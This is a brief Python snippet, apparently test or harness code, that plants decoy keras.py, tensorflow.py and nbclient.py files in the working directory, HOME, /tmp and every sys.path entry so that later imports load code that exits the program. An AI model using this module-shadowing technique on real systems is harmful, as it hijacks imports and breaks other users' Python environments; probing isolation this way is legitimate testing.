EVIL = "raise SystemExit('not the Keras that you are looking for')  # residue-@TOKEN@\n"
for place in (".", "..", HOME, "/tmp", *sys.path):
    for name in ("keras.py", "tensorflow.py", "nbclient.py"):
        path = pathlib.Path(place or ".", name)
        if not path.exists():
            attempt(path.write_text, "evil = True\n" if place == "." else EVIL)
